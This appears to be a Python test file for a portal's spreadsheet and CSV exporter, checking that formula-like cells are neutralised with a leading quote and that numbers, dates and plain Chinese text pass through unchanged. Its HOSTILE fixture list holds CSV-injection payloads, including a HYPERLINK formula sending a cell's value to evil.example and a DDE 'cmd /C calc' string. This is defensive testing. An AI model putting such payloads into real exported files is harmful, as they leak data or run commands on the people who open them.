"""The core's one spreadsheet/CSV writer: text that a spreadsheet program would run as a formula is neutralised
(a leading single quote, OWASP's CSV-injection rule); numbers, dates and plain text stay as they are."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from portal.exports import append_row, csv_text, workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&C4,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
PLAIN = ["资金支出进度偏慢", "一、指标 = 目标值", "'已有引号", "", "-12.50"]


def cells(values):
    workbook = Workbook()
    append_row(workbook.active, values)
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    return list(next(sheet.iter_rows()))


def test_xlsx_text_that_would_be_a_formula_is_text_with_a_leading_quote():
    row = cells(HOSTILE)
    assert [c.data_type for c in row] == ["s"] * len(HOSTILE)
    assert [c.value for c in row] == ["'" + v for v in HOSTILE]


def test_xlsx_numbers_dates_and_plain_text_are_unchanged():
    row = cells([*PLAIN, -3.5, Decimal("-2.25"), -7, date(2025, 7, 1), None])
    values = [c.value for c in row]
    assert values[:5] == ["资金支出进度偏慢", "一、指标 = 目标值", "'已有引号", None, "-12.50"]
    assert values[5:8] == [-3.5, -2.25, -7] and [c.data_type for c in row[5:8]] == ["n", "n", "n"]
    assert values[8].date() == date(2025, 7, 1) and row[8].is_date
    assert not any(c.data_type == "f" for c in row)


def test_csv_cells_that_would_be_formulas_start_with_a_quote_and_numbers_stay_numbers():
    text = csv_text(["a", "b", "c"], [{"a": v, "b": -3.5, "c": None} for v in HOSTILE + ["普通文本"]])
    assert text.startswith("\ufeffa,b,c\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["普通文本"]
    assert {r[1] for r in rows[1:]} == {"-3.5"} and {r[2] for r in rows[1:]} == {""}


def test_xlsx_as_text_keeps_formula_like_text_as_written_in_string_cells():
    """Paper forms write targets such as ``=12月``: stored as string cells (never formulas), no quote added."""
    workbook = Workbook()
    append_row(workbook.active, [*HOSTILE, "=12月", 3, None], as_text=True)
    data = workbook_bytes(workbook)
    row = list(next(load_workbook(io.BytesIO(data)).active.iter_rows()))
    assert [c.value for c in row[:len(HOSTILE) + 1]] == [*HOSTILE, "=12月"]
    assert {c.data_type for c in row[:len(HOSTILE) + 1]} == {"s"}
    assert row[len(HOSTILE) + 1].value == 3
    import zipfile

    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
